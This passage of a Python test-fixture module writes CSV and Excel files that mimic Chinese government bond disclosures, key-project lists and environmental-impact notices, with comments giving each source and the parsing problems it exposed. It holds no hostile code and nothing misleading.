        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                               b'content-types"><Override PartName="/xl/workbook.bin" ContentType="application/'
                               b'vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>',
        "xl/workbook.bin": b"\x83\x01\x00\x80\x01\x00" * 20, "xl/worksheets/sheet1.bin": b"\x81\x01\x00" * 50}))
    plain = io.BytesIO()
    openpyxl.Workbook().save(plain)
    with zipfile.ZipFile(plain) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    strict = {n: d.replace(b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                           b"http://purl.oclc.org/ooxml/spreadsheetml/main") for n, d in parts.items()}
    (HERE / "strict_open_xml.xlsx").write_bytes(_zip(strict))
    listed = "\n".join(",".join(map(str, r)) for r in [HOSTILE5_HEAD, *HOSTILE5_ROWS]) + "\n"
    (HERE / "list_in_archive.zip").write_bytes(_zip({"项目清单.csv": listed.encode("utf-8")}))
    (HERE / "list_in_archive.csv.gz").write_bytes(gzip.compress(listed.encode("utf-8"), mtime=0))
# ------------------------------------------------------------------------------ s25-lists3
# Classes found by a third round of real published lists (bond disclosures of counties, 环评 batches, county
# and zone 开工 / 签约 summaries; issue 12). Synthetic names and figures, the publishers' layouts.

# A bond disclosure's header of three rows (group / sub-group / sub-header) and a row of column numbers under
# it: the lower header rows and the numbers were read as nameless projects ("(2)" a negative amount).
HEADER_THREE_ROWS = """某市2024年政府专项债券存续期对应项目情况表 单位:亿元
债券简称,项目名称,区县,项目全周期总投资,,跟踪期情况(截至2023年末),,预期收益
,,,,,已实现投资情况,,
,,,合计,其中:债券资金安排,合计,其中:债券资金安排,2024年起至项目全周期结束
,,,(1),(2),(3),(4),(5)
23某债01,临江产业园基础设施项目,江宁区,12.5,6.0,3.2,1.5,20.4
23某债02,滨湖污水处理厂扩建工程,浦口区,3.8,2.0,1.1,0.9,6.7
"""

# Column numbers as forms print them (甲, 乙, 1, 2, 3…) under a one-row header.
COLUMN_NUMBERS = """2024年重点项目计划表
序号,项目名称,建设地点,总投资（万元）,2024年计划投资（万元）,建设起止年限
甲,乙,1,2,3,4
1,常州智能装备产业园项目,江苏省常州市,56000,12000,2024-2026
2,镇江新型储能电站项目,江苏省镇江市,30000,8000,2024-2025
"""

# What a project earns is no amount the list plans: 已取得项目收益 / 其中:2024年当年实现收益 was stored as the
# 2024 plan; a bond's type (其他自平衡专项债券) was read as the sector, unknown on every row.
REVENUE_COLUMNS = """2023年--2024年末发行的新增地方政府专项债券情况表
单位:亿元
债券基本信息,,,,项目名称,项目所在地区,债券项目总投资,,已取得项目收益,
债券名称,债券类型,债券规模,发行时间(年/月/日),,,合计,其中:债券资金安排,合计,其中:2024年当年实现收益
2023年某省其他项目收益专项债券(九期),其他自平衡专项债券,199.8,2023/3/31,城东养老服务中心建设工程,浙江省温州市,1.3,1.0,0.2,0.15
2024年某省其他项目收益专项债券(四期),其他自平衡专项债券,98.02,2024/2/29,城南综合客运枢纽工程,浙江省温州市,4.6,2.5,0.3,0.3
"""

# Signing summaries count each county's projects in a 签约项目数 column: its rows were stored as projects with
# the county's total.
COUNT_HEADER_SIGNED = """某市2024年招商引资集中签约项目汇总表
序号,县（市、区）,项目名称,签约项目数,总投资（亿元）
1,江宁区,江宁区签约项目,12,103.9
,江宁区,江宁新能源电池材料项目,,35
2,浦口区,浦口区签约项目,21,208.56
,浦口区,浦口智能装备产业园项目,,60
"""

# One project on two rows (one per bond) in a list without years: the message named row "nan".
DUPLICATE_NO_YEAR = """项目名称,区县,项目全周期总投资（亿元）,本期债券使用额度（亿元）
城西医院改扩建工程,鄞州区,3.23,0.35
城西医院改扩建工程,鄞州区,3.23,0.45
"""


def write_second_table(path: Path) -> None:
    """A bond disclosure's two tables on one sheet: the projects, then (after a blank row) their revenue and
    assets, the project name one column further right."""
    import openpyxl

    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "Sheet1"
    ws.append(["某区截至2024年末政府专项债券情况表"])
    ws.merge_cells("A1:E1")
    ws.append(["单位:万元"])
    ws.append(["序号", "项目名称", "建设地点", "项目总投资", "其中:债券资金安排"])
    ws.append([1, "城北学校新建工程", "安徽省铜陵市", 19900, 12000])
    ws.append([2, "城南医院病房楼扩建工程", "安徽省铜陵市", 8600, 5000])
    ws.append([])
    ws.append(["某区截至2024年末政府专项债券项目收入及对应资产情况表"])
    ws.merge_cells("A7:F7")
    ws.append(["单位:万元"])
    ws.append(["债券名称", "债券类型", "项目名称", "使用债务资金部门名称", "已取得项目收益", "资产评估价值"])
    ws.append(["2024年某省专项债券(一期)", "其他自平衡专项债券", "城北学校新建工程", "区教育局", 0, 0])
    ws.append(["2024年某省专项债券(二期)", "其他自平衡专项债券", "城南医院病房楼扩建工程", "区卫健委", 120, 0])
    book.save(path)


def write_lists3() -> None:
    (HERE / "header_three_rows.csv").write_bytes(HEADER_THREE_ROWS.encode("utf-8"))
    (HERE / "column_numbers.csv").write_bytes(COLUMN_NUMBERS.replace("\n", "\r\n").encode("gbk"))
    (HERE / "revenue_columns.csv").write_bytes(REVENUE_COLUMNS.encode("gbk"))
    (HERE / "count_header_signed.csv").write_bytes(COUNT_HEADER_SIGNED.encode("utf-8"))
    (HERE / "duplicate_no_year.csv").write_bytes(DUPLICATE_NO_YEAR.encode("utf-8"))
    write_second_table(HERE / "second_table.xlsx")


# ------------------------------------------------------------------------------ s26-lists4
# A fourth round of real published lists (issue 12), each transcribed as the stored copy of its page shows
# it: the rows as published, a long list cut after the rows the copy holds (said below). Tests in
# tests/test_import_lists4.py; outcomes in the helper's notes. Sources:
#   lists4_yangling_general_bonds.xlsx  https://yangling.gov.cn/zwgk/fdzdgknr/czxx/zwxx/1938546394512101377.html
#   lists4_liangshan_general_bonds.xlsx http://lsjtjt.cn/a/xiangmugonggao/jieguogongshi/2024/0617/1734.html
#                                       (its first 10 rows)
#   lists4_lezhi_special_bonds.xlsx     http://zdxx.lezhi.gov.cn/publicly_details.aspx?id=12807 (first 6 rows)
#   lists4_suining_general_bonds.csv    http://jnxlynyfzyxgs6108111.com/newsInner.aspx?ContentId=408&t=25 (its 2
#                                       whole rows; the second's progress cell cut after its first sentence)
#   lists4_xindu_2009.csv               http://sxsjbj.com/economics/2008xm/2009-03/05/content_17383292.htm (to the
#                                       end of 工业区管委会's 19 projects)
#   lists4_lanzhou_eia_masked.csv       https://ixbang.com/bid/detail/A1B7B84C54635B720E9FBAE962188E5D.html
#   lists4_yanan_eia.csv                https://ixbang.com/bid/detail/979003972C9C87E564B8C2A42F317648.html
#   lists4_baoding_work_relief.csv      http://hdzc.net/html/news/hb/2017_05/17/14213421.html
#   lists4_tongling_hospital_bonds.xlsx https://tl2y.com/index.php?a=shows&catid=2&id=1387
#   lists4_jiaojiang_special_bonds.csv  http://www.jj.gov.cn/art/2024/6/19/art_1229458148_3935157.html
# 遂宁's and 新都's pages are stored by reposting sites in traditional characters, and transcribed so; 兰州's
# and 延安's by a tender aggregator that hides words with (略) and *.

# 杨凌: one row per bond (no project name), 合计 printed first, thousands separators, 万元.
LISTS4_YANGLING = [
    ("2023年陕西省政府一般债券(一期)", "2305189", "3,600.00", "2023/2/28", "2.97", "7年", "41,000.00", "3,600.00",
     "32,000.00", "3,600.00"),
    ("2023年陕西省政府一般债券(三期)", "2305530", "11,500.00", "2023/5/31", "2.78", "7年", "61,500.06", "11,500.00",
     "43,352.47", "11,500.00"),
    ("2023年陕西省政府一般债券(五期)", "198764", "6,900.00", "2023/8/29", "2.79", "10年", "66,420.51", "6,900.00",
     "16,716.09", "6,900.00"),
    ("2023年陕西省政府一般债券(六期)", "2371227", "800.00", "2023/9/28", "2.79", "7年", "3,626.70", "800.00",
     "2,794.57", "800.00"),
    ("2024年陕西省政府一般债券(二期)", "2405199", "4,100.00", "2024/3/29", "2.41", "10年", "26,108.00", "4,100.00",
     "13,020.91", "4,100.00"),
    ("2024年陕西省政府一般债券(三期)", "2405252", "4,000.00", "2024/4/29", "2.38", "10年", "21,495.34", "4,000.00",
     "7,489.93", "4,000.00"),
    ("2024年陕西省政府一般债券(六期)", "2405631", "1,000.00", "2024/7/29", "2.1", "7年", "5,000.00", "1,000.00",
     "2,516.00", "1,000.00"),
    ("2024年陕西省政府一般债券(九期)", "2471153", "1,600.00", "2024/10/28", "2.4", "15年", "19,008.00", "1,600.00",
     "9,451.80", "1,600.00"),
]
# The bond disclosures' two header rows: 债券基本信息 over seven bond columns, then the project's amounts.
LISTS4_BOND_TOP = ["债券基本信息", None, None, None, None, None, None, "债券项目总投资", None,
                   "债券项目已实现投资", None, "备注"]
LISTS4_BOND_SUB = ["债券名称", "债券编码", "债券类型", "债券规模", "发行时间(年/月/日)", "债券利率(%)", "债券期限",
                   None, "其中:债券资金安排", None, "其中:债券资金安排", None]
# 凉山州: the project's name stands under 备注 (亿元); nine of the ten rows give no amount.
LISTS4_LIANGSHAN = [
    ("0.072", None, "交通安保工程"), ("0.195", None, "盐源航空护林直升机场扩建"),
    ("0.08", None, "西昌卫星发射基地航空护林直升机场"), ("0.092", None, "交通应急抢险及 灾毁恢复 专项资金"),
    ("0.08", None, "凉山州地方公路在役长大桥隧结构安全监测项目(一期)"), ("0.018", None, "购置移动激光测风雷达"),
    ("0.042", None, "雷电监测设施建设"), ("0.1", None, "漫水湾镇森林草原防灭火教育实训基地一期项目"),
    ("0.002", None, "卫星林火监测系统建设项目"), ("0.3", ("3.95", "0.35", "2.25", "0.35"), "S309椅子垭口隧道"),
]
# 乐至县: one row per bond, no project name at all (亿元).
LISTS4_LEZHI = [
    ("2018年四川省文化旅游专项债券(一期)-2018年四川省政府专项债券(三十八期)", "157526", "普通专项债券", "0.31",
     "2018-10-25", "3.96", "10年", "2.87", "2.00", "0.92", "0.31"),
    ("2019年四川省文化旅游专项债券(一期)-2019年四川省政府专项债券(二十八期)", "104536", "普通专项债券", "0.61",
     "2019-02-25", "3.38", "10年", "2.87", "2.00", "0.92", "0.61"),
    ("2019年四川省棚户区改造专项债券(八期)-2019年四川省政府专项债券(六十二期)", "157694", "棚改专项债券", "0.55",
     "2019-05-06", "3.72", "7年", "2.59", "2.00", "0.92", "0.55"),
    ("2019年四川省医院建设专项债券(4期)-2019年四川省政府专项债券(76期)", "157708", "普通专项债券", "0.40",
     "2019-05-06", "3.72", "7年", "1.55", "0.29", "0.13", "0.40"),
    ("2019年四川省棚户区改造专项债券(十期)-2019年四川省政府专项债券(七十八期)", "104629", "棚改专项债券", "0.34",
     "2019-06-03", "3.58", "7年", "2.59", "2.00", "0.92", "0.34"),
    ("2019年四川省土地储备专项债券(七期)-2019年四川省政府专项债券(九十三期)", "157914", "土地储备专项债券", "0.57",
     "2019-07-26", "3.25", "5年", "1.57", "1.26", "0.89", "0.57"),
]
# 遂宁 (a county company's disclosure, traditional characters), 万元; no place anywhere but in a name.
LISTS4_SUINING = """表3-1
2017年—2018年發行的新增地方政府一般債券情況表
,,,,,,,,,,,,單位:萬元
債券基本信息,,,,,,,項目名稱,債券項目總投資,,債券項目已實現投資,,項目建設進度、運營情況,備注
債券名稱,債券編碼,債券類型,債券規模,發行時間(年/月/日),債券利率,債券期限,,總投資,其中:債券資金安排,已實現總投資,其中:債券資金安排,,
2017年四川省政府一般債券(十三期),1705264,一般,4710,2017-7-27,3.78,3年,中國民航飛行學院遂寧(南壩)機場遷建,195794,200,112391.22,200,在建:完成六個填方區地基處理分部工程，箱涵主體工程通過驗收。正處于土石方工程施工階段，累計完成土石方填筑1491.8萬立方米。,
2017年四川省政府一般債券(十四期),1705265,一般,4710,2017-7-27,3.86,5年,宋瓷文化中心,144355,220,55321.12,220,在建:1.土建EPC部分已完成總體工程量約85%，主體結構、砌體結構全部完成。,
"""
# 新都 2009: names only, grouped by department (一 區經濟局(1項)), then by stage ((一) 竣工項目(5項)); a department
# with one project puts its stage heading and the project in one cell, on two lines.
LISTS4_XINDU = '''序號,項目名稱
,合計(129項)
一,區經濟局(1項)
1,"竣工項目[1項]
航空發動機零部件生產線"
二,工業區管委會(19項)
(一),竣工項目(5項)
1,健康藥品生產線
2,食品飲料、金屬包裝生產線
3,中藥飲片生產線
4,天錫發動機關鍵零部件生產線
5,新都衛星城工業東區污水處理廠
(二),加快建設項目(7項)
1,汽車鋼圈和真空輪胎生產線
2,啤酒生產線(遷建)
3,電纜生產線
4,石油機械生產線
5,特種金屬及母合金生產
6,標準廠房建設
7,工業東區基礎設施建設
(三),新開工項目(7項)
1,汽車零部件生產
2,液壓設備生產
3,中國西部特種功能性新材料加工基地
4,洗衣機生產
5,貴重中藥材飲片加工
6,高壓鐵塔、通信鐵塔及附件生產線
7,雙零鋁箔生產線
'''
# 环评 拟审批 公示 as an aggregator stores them: names and sites with words hidden by (略) and *.
LISTS4_LANZHOU_EIA = """序号,项目名称,建设地点,建设单位,环评机构,项目概况
1,(略) 中佑 (略) 实验室项目,甘 (略) 关区雁儿湾 * 号欣欣嘉园 (略) * - * # * 商铺,(略) 中佑 (略),(略) 绿 (略),\
(略) 中佑 (略) 决定投资 * 万元新建环境检测实验室项目。
2,(略) 关区青白石街道 (略) 村粪圈沟建筑弃土填埋及土地整理项目,(略) 关区青白石街道 (略) 村粪圈沟、 (略) 沟,\
(略) (略),(略) 绿 (略),本项目只收容开挖过程产生的工程弃土。
"""
LISTS4_YANAN_EIA = """序号,项目名称,建设地点,建设单位,环评单位,项目概况,主要环境影响及对策和措施,公众参与 情况,备 注
1,延安功鼎新型环保建材建设项目,(略) 宝塔区李渠镇沟门村阳洼小组188号,(略),(略),\
延安功鼎新型环保建材建设项目位于 (略) 宝塔区李渠镇沟门村阳洼小组188号，占地面积6158m2。\
主要建设包括1条商品混凝土生产线以及配套环保设施和办公生活设施，项目建成后年生产商品混凝土约1.*m3。,\
详见环境影响报告表,无,
备注：该项目内容不涉及涉密信息。
"""
# 保定's 以工代赈: a table of counties (共计 first, 万 in the cells), its projects told in prose below it.
LISTS4_BAODING = """保定
地区,以工代赈资金,劳务报酬
共计,2000万,200万
阜平县,500万,50万
涞源县,500万,50万
唐县,500万,50万
易县,500万,50万
"""
# 椒江: the province's disclosure form (亿元), three header rows and a row of column numbers.
LISTS4_JIAOJIANG = """浙江省政府新增专项债券存续期对应项目情况表(其他项目收益专项债券) 单位:亿元
债券简称,债券全称,发行期限(年),地市,区县,项目名称,债券利率(%),本期债券使用额度,项目全周期总投资,,\
跟踪期情况(截至2023年末),,预期收益,备注(如存在项目本次披露的信息与发行时披露或2023年6月存续期披露的信息差异较大，请说明)
,,,,,,,,,,已实现投资情况,,,
,,,,,,,,合计,其中:债券资金安排,合计,其中:债券资金安排,2024年起至项目全周期结束,
,,,,,,,,(1),(2),(3),(4),(7),
22浙江债04,2022年浙江省其他项目收益专项债券(二期) --2022年浙江省政府专项债券(四期),15,台州市,椒江区,\
大陈岛海上大花园项目,3.21,0.3,10.36,7.50,1.46,0.30,17.94,
22浙江债31,2022年浙江省其他项目收益专项债券(十九期) --2022年浙江省政府专项债券(三十期),20,台州市,椒江区,\
大陈岛甲午岩景区配套设施改造提升工程,3.19,0.3,0.99,0.50,0.30,0.30,0.90,
"""


_lists4_sheet = save_sheet


def _lists4_tongling() -> list[list]:
    """铜陵's hospital: the bond table (部门名称 first, three header rows), then its revenue and assets table."""
    bond = "2021年安徽省基础设施专项债券(十八期)-2021年安徽省政府专项债券(二十六期)"
    name = "铜陵市第二人民医院(传染病医院)病房楼扩建工程"
    return [
        ["截至2021年末政府专项债券情况表(2018-2021年发行债券)"], ["单位:万元"],
        ["部门名称", "债券信息", None, None, None, None, None, None, "债券项目情况", None, None, None, None, None,
         "运营状态(未运营/正常运营)", "备注"],
        [None, "债券名称", "债券编码", "债券类型", "债券规模(万元)", "发行时间", "债券利率(%)", "债券期限(年)",
         "项目名称", "项目所在地区", "项目总投资", None, "项目已实现投资", None, None, None],
        [None] * 10 + ["总投资", "其中:债券资金安排", "已实现投资", "其中:债券资金安排", None, None],
        ["市二院", bond, "2105828", "其他自平衡专项债券", 3000, "2021-09-22", 3.14, 10, name, "铜陵市", 19900, 12000,
         3490.2, 490.2, "未运营", None],
        [],
        ["截至2021年末政府专项债券项目收入及对应资产情况表(2018-2021年发行债券)"], ["单位:万元"],
        ["债券基本情况", None, "项目基本情况", None, None, "已取得项目收益", None, None, None, None, None, None, None,
         "项目资产", None, None, None, "备注"],
        ["债券名称", "债券类型", "项目名称", "使用债务资金部门名称", "项目运营状态(未运营/正常运营)", "合计", None,
         "运营收益", None, "资产收益", None, "其他收益", None, "资产类型", "资产归属部门", "资产管理单位",
         "资产评估价值", None],
        [None] * 5 + ["累计数", "其中当年数"] * 4 + [None] * 5,
        [bond, "其他自平衡专项债券", name, "市二院", "未运营", 0, 0, 0, 0, 0, 0, 0, 0, "医疗卫生与社会保障", "市二院",
         "市二院", "项目在建未竣工", None],
    ]


def write_lists4() -> None:
    yangling = [["附件1"], ["杨凌示范区部门(单位)2023-2024年末发行的新增地方政府一般债券情况表"], ["单位:万元"],
                LISTS4_BOND_TOP, LISTS4_BOND_SUB,
                ["合计", None, None, "33,500.00", None, None, None, "244,158.61", "33,500.00", "127,341.77",
                 "33,500.00", None]]
    yangling += [[n, c, "一般债券", *rest, None] for n, c, *rest in LISTS4_YANGLING]
    yangling.append(["注:本表由使用债券资金的部门不迟于每年6月底前公开,反映截至上年末一般债券及项目信息。"])
    _lists4_sheet(HERE / "lists4_yangling_general_bonds.xlsx", "附件1", yangling,
                  ("A2:L2", "A4:G4", "H4:I4", "J4:K4", "L4:L5"))
    liangshan = [["表3-1"], ["截至2023年末凉山彝族自治州发行的新增地方政府一般债券情况表"],
                 [None] * 11 + ["单位:亿元"], LISTS4_BOND_TOP, LISTS4_BOND_SUB]
    liangshan += [["2020年四川省政府一般债券(四期)", "160832", "一般债券", size, "2020/8/10", "3.26", "7年",
                   *(amounts or (None,) * 4), name] for size, amounts, name in LISTS4_LIANGSHAN]
    _lists4_sheet(HERE / "lists4_liangshan_general_bonds.xlsx", "Sheet1", liangshan,
                  ("A2:L2", "A4:G4", "H4:I4", "J4:K4", "L4:L5"))
    lezhi = [["2018年--2019年末乐至县发行的新增地方政府专项债券情况表"], ["单位:亿元"],
             ["债券名称", "债券基本信息", None, None, None, None, None, "债券项目资产类型", "债券项目总投资", None,
              "债券项目已实现投资", None, "已取得项目收益", "备注"],
             [None, "债券编码", "债券类型", "债券规模", "发行时间(年/月/日)", "债券利率(%)", "债券期限", None, None,
              "其中:债券资金安排", None, "其中:债券资金安排", None, None]]
    lezhi += [[*row[:7], None, *row[7:], "0.00", None] for row in LISTS4_LEZHI]
    _lists4_sheet(HERE / "lists4_lezhi_special_bonds.xlsx", "Sheet1", lezhi, ("A1:N1", "B3:G3", "I3:J3", "K3:L3"))
    _lists4_sheet(HERE / "lists4_tongling_hospital_bonds.xlsx", "Sheet1", _lists4_tongling(),
                  ("A3:A5", "B3:H3", "I3:N3", "K4:L4", "M4:N4"))
    (HERE / "lists4_suining_general_bonds.csv").write_bytes(LISTS4_SUINING.encode("utf-8"))
    (HERE / "lists4_xindu_2009.csv").write_bytes(LISTS4_XINDU.encode("utf-8"))
    (HERE / "lists4_lanzhou_eia_masked.csv").write_bytes(LISTS4_LANZHOU_EIA.encode("gbk"))
    (HERE / "lists4_yanan_eia.csv").write_bytes(LISTS4_YANAN_EIA.encode("utf-8"))
    (HERE / "lists4_baoding_work_relief.csv").write_bytes(LISTS4_BAODING.encode("gbk"))
    (HERE / "lists4_jiaojiang_special_bonds.csv").write_bytes(LISTS4_JIAOJIANG.encode("utf-8"))

# ------------------------------------------------------------------------------ s27-lists5
# Real published lists, round 5 (issue 12): 环评 approval notices and decisions as reposting sites and county
# portals print them (a table per notice, words hidden by (略) and runs of *, one project written down the rows,
# traditional characters), a 性质 column, and a numbered list of names. Transcribed as each stored page shows it;
# tests/test_import_lists5.py; outcomes in the helper's notes. Sources:
#   lists5_huanggang_eia.csv             (黄冈市生态环境局, 拟审批公示)
#     http://119.36.177.164:8090/PBBS/publicnoticeservlet?attach_uuid=8a2ee88d71f886e901726e9bfabf0855&command=findInfoByUUID&public_type=1  # noqa: E501
#   lists5_shaanxi_eia_masked.csv        https://sxs.qianlima.com/zbcontent-493095020.html (a 陕西 county, 2025-03-20)
#   lists5_xinjin_eia_trad.csv           http://jylmj.com/bid/detail/157CC0F1B1D089FB087DC617434DA217.html
#                                        (新津, 2025-04-02, traditional characters)
#   lists5_zengcheng_eia_transposed.csv  https://www.qianlima.com/bid-559903811.html (增城, 2025-12-04)
#   lists5_wenshui_eia_decisions.csv     (文水经济技术开发区, 2023-08-30)
#     http://www.wenshui.gov.cn/xxgk/zfxxgkml/zzjg/xzbm/sxwsjjkfqgwh/tzgg_jkq/202308/t20230830_1788435.html
#   lists5_yichun_eia_decisions.csv      (2024-11) https://ixbang.com/bid/detail/364BCFDA4C71FC725CE4E69B03D3CD64.html
#   lists5_gaomi_eia_decisions.csv       (2023-08-23) https://ixbang.com/bid/detail/4F28618951F8C1730E9FBAE962188E5D.html
#   lists5_west_ten_numbered.txt         https://www.hangqt.com/article/1104100.html (西部新开工十大工程)
#   lists5_miit_techreform_cities.csv    (工信部规划司、财政部经济建设司, 2025-04-29, a repost)
#     http://tcscypt.com/App/PolicyDetail/7645a3dc-96bd-4fcf-9b4e-0bb7f1a8ff2c

LISTS5_HUANGGANG = """序号,项目名称,性质,建设地点,主要建设内容
1,湖北岚湖华源智能机械包装有限公司年产3万吨塑料颗粒综合利用项目,新建,黄冈市黄州区南湖工业园,"\
(建设内容:项目新征工业用地53亩,总建筑面积21324.37平方米(根据实际成交土地面积及已批复用\
地规划核定,见附件5),计划新建1栋10000平方米的回收造粒车间;仓储车间(4900平方米的原料仓\
库、4900平方米的产品仓库);并配套建设800立方米污水净化处理水池、200平方米的磅房、配电室,\
配套完成场区内下水道、道路硬化、绿化等设施。计划年产3万吨塑料颗粒。 计量单位:吨/年、万套/年)"
"""

LISTS5_SHAANXI = """序号,项目名称,建设地点,建设单位,环评单位,项目概况,主要环境影响及对策措施
1,年产200万平米医疗抗菌板生产线建 设项目,**县**街道办关中环线七一村66号,****,**\
****公司,项目租赁厂房3012.65平方米，主要建设年产200万平米医疗抗菌板生产线建设项目。,
2,****医院建设项目,**县大程镇大程村北焦组,****医院,******公司,医院占地11亩，\
主要建设住院部(4f)，设置门诊用房、住院用房、检验用房、供应室用房、药房及锅炉房。锅炉房占地面积5\
0m2，设置一台1t/h天然气锅炉，用于医院供暖，同时完成相关配套设施工程，建设50张床位。,
"""

LISTS5_XINJIN = """項目名稱,建設地點,建設單位,環境影響評價機構,項目概況,主要環境影響及預防或者減輕不良環境影響的對\
策和措施,公眾參與情況,建設單位或地方政府所作出的相關環境保護措施承諾文件
四 (略) (略) 區床位擴建項目,(略) (略) (略) 509號,四 (略),四川眾投 (略),\
本項目新增床位50張不新增醫療設備，新建中成藥提取生產線、中成藥制劑生產線，新增中成藥生產設備，年產\
488.075噸中成藥(僅供四 (略) (略) 區、 (略) 區及批復的調劑單位使用、不外售)。,2\
025年3月26日至2025年4月1日 (略) 人 (略) 進行受理公示,無,
注:根據《建設項目環境影響評價政府信息公開指南(試行)》的有關規定，上述環境影響報告表不含涉及國家秘\
密、商業秘密、個人隱私以及涉及國家安全、公共安全、經濟安全和社會穩定的內容，并經建設單位同意公開。
"""

LISTS5_ZENGCHENG = """****年产塑料齿轮2500万个异地扩建项目环境影响评价文件拟审查公示
项目名称,****年产塑料齿轮2500万个异地扩建项目
建设地点,******区新塘镇官道村**路5号厂房一至三楼
建设单位,****
项目概况,"一、****年产塑料齿轮2500万个异地扩建项目位于**市**区新塘镇官道村**路5号厂\
房一至三楼。项目主要采用烘干、注塑成型、冷却、质检(破碎)等工序,预计年产年塑料齿轮2500万个。项\
目总投资500万元,其中环保投资15万元。"
环评机构,******公司
主要环境影响及预防或减轻不良环境影响的对策和措施,
公众参与情况,/
"""

LISTS5_WENSHUI = """序号,项目名称,审批文号,审批时间
1,年产5万吨钢箱梁及隧道智能装备项目,文开发行审环﹝2023﹞10号,2023830
"""

LISTS5_YICHUN = """序号,项目名称,批复文号,批复时间
1,江西正拓年产4.(略)吨锂离子石墨负极材料一体化扩建项目重大变动,宜区环评字〔2024〕20号,\
2024.11.6
2,(略) 金湖学校建设项目,宜区环评字〔2024〕21号,2024.11.13
"""

LISTS5_GAOMI = """作出的建设项目环境影响评价文件审批决定
序号,文件名称,文号,发文时间
1,关于《 (略) 万 (略) 年产1万吨钢结构件技改项目》环境影响报告书批复,高环审字[2023]\
4号,2023.8.23
"""

LISTS5_WEST = """西部:新开工十大工程总投资1360亿
这十大工程分别是:
1、郑州至西安客运专线;
2、襄渝铁路和达成铁路改扩建;
3、宝鸡至天水和雅安至泸沽高速公路;
4、西部地区干支线机场;
5、嘉陵江航运开发草街航电枢纽工程;
6、内蒙 古伊敏电厂二期工程;
7、西部重点煤矿工程;
8、新疆独山子石化改扩建工程;
9、农村饮水安全工程;
10、农村教育、卫生事业发展。
"""

LISTS5_MIIT = """附件 :
第二批制造业新型技术改造城市试点拟入选名单
序号,市(区)
1,北京市大兴区、顺义区
2,天津市武清区、西青区
3,河北省石家庄市
4,山西省太原市
5,内蒙古自治区包头市
6,辽宁省鞍山市
7,吉林省长春市
8,上海市金山区、嘉定区
9,江苏省无锡市
10,浙江省湖州市
11,安徽省芜湖市
12,福建省福州市
13,江西省景德镇市
14,山东省烟台市
15,河南省洛阳市
16,湖北省宜昌市
17,湖南省株洲市
18,广东省东莞市
19,广西壮族自治区南宁市
20,重庆市长寿区、渝北区
21,四川省绵阳市
22,贵州省贵阳市
23,云南省昆明市
24,陕西省宝鸡市
25,宁夏回族自治区石嘴山市
26,新疆生产建设兵团
注:按行政区划排列,排名不分先后。
"""

LISTS5_FILES = {  # file name -> (text constant, encoding as the writer stores it)
    "lists5_huanggang_eia.csv": (LISTS5_HUANGGANG, "utf-8"),
    "lists5_shaanxi_eia_masked.csv": (LISTS5_SHAANXI, "gbk"),
    "lists5_xinjin_eia_trad.csv": (LISTS5_XINJIN, "utf-8"),
    "lists5_zengcheng_eia_transposed.csv": (LISTS5_ZENGCHENG, "utf-8"),
    "lists5_wenshui_eia_decisions.csv": (LISTS5_WENSHUI, "utf-8"),
    "lists5_yichun_eia_decisions.csv": (LISTS5_YICHUN, "gb18030"),
    "lists5_gaomi_eia_decisions.csv": (LISTS5_GAOMI, "utf-8"),
    "lists5_west_ten_numbered.txt": (LISTS5_WEST, "utf-8"),
    "lists5_miit_techreform_cities.csv": (LISTS5_MIIT, "utf-8"),
}


def write_lists5() -> None:
    for name, (text, encoding) in LISTS5_FILES.items():
        (HERE / name).write_bytes(text.encode(encoding))



# ------------------------------------------------------------------------------ s28-lists6
# Real published lists, round 6 (issue 12): a ministry's 环评 acceptance list and county, zone and city 环评
# notices as reposting sites print them (traditional characters with pinyin after some characters, a header
# repeated above each project with line breaks inside its cells, a row that lost its name cell, words hidden
# by #), a province's supplement list of names, a prefecture's progress table by county (单位:个、亿元) and a
# city's bond disclosure form (亿元). Transcribed as each stored page shows it; a cell the stored copy cuts off
# is kept as cut. Tests in tests/test_import_lists6.py. Sources:
#   lists6_mee_acceptance.csv        (生态环境部, 受理 2024-11-04..08, a repost with pinyin after characters)
#     http://lanlitx.com/ywgz/hjyxpj/jsxmhjyxpj/xmslqk/202411/t20241114_1095293.shtml
#   lists6_luyanghu_eia.csv          (卤阳湖环保分局, 2016-07-01, the header above each project)
#     https://www.eldinerorapido.com/wanboguanwangmanbetx/xwdt/gsgg/1630076945158930433.html
#   lists6_pucheng_eia.csv           (渭南, 2024-05-22)
#     http://zrzyghj.niubayi.com/zfxxgk/fdzdgknr/sthj/hpxx/1793107817729851394.html
#   lists6_taijiang_eia.csv          (福州市台江区环境保护局, 2018-07-03)
#     http://www.taijiang.gov.cn/xjwz/zwgk/hjbh/jsxmhjyxpjxx/201807/t20180703_2501789.htm
#   lists6_baotou_eia.csv            (包头, 2020-04-02, a repost with pinyin) http://m.spotifyripper.net/detail/cid/439/aid/89070
#   lists6_guanyun_eia.csv           (灌云县, 2025-09-28)
#     http://hbj.lyg.gov.cn/lygshbj/hpxm/content/dfc17965-365e-4396-be19-d7e90b237ff5.html
#   lists6_gaoyou_eia.csv            (高邮, 2023-12-05) https://js.zhiliaobiaoxun.com/article/59007550
#   lists6_jingxian_eia_hashes.csv   (景县, words hidden by #)
#     http://wap.tiantianbid.com/biddingdetail-78-ad6df8921b8d68cb025702b3e39b7163.html
#   lists6_zhejiang_2016_names.txt   (浙江省发改委 2016年第二批省重点建设项目增补名单, the names a repost kept)
#     https://news.solarbe.com/201612/14/105886.html
#   lists6_juxian_eia_transposed.csv (莒县, 受理 2026-03-04, a repost with pinyin)
#     http://m.xzphp.com/news/fbad865bde93707ad39f3f71a6193e72.html
#   lists6_xiangxiang_eia_decision.csv (湘乡, 2024-11-15)
#     https://xiangxiangshi.chinamae.com/news/c06a7c0bf85aea1d27f7ba9d3f435b93.html
#   lists6_xiangxi_progress.xlsx     (湘西州 1-9月份州重点项目投资完成情况汇总表, 2021-10-18)
#     https://gx-cm.com/www/zwgk/fdxxgknr/zdxm/202110/t20211018_1834042
#   lists6_ningbo_bond_form.csv      (宁波市财政局, 2021-09-15; the stored copy ends inside the yearly returns)
#     http://czj.ningbo.gov.cn/art/2021/9/15/art_1229029201_58883324.html
#   lists6_shenxian_acceptance.csv   (莘县人民医院传染病分院, 竣工环境保护验收 2025-02-27, a repost)
#     http://m.b8025.com/gsgg/844.html

LISTS6_MEE = [
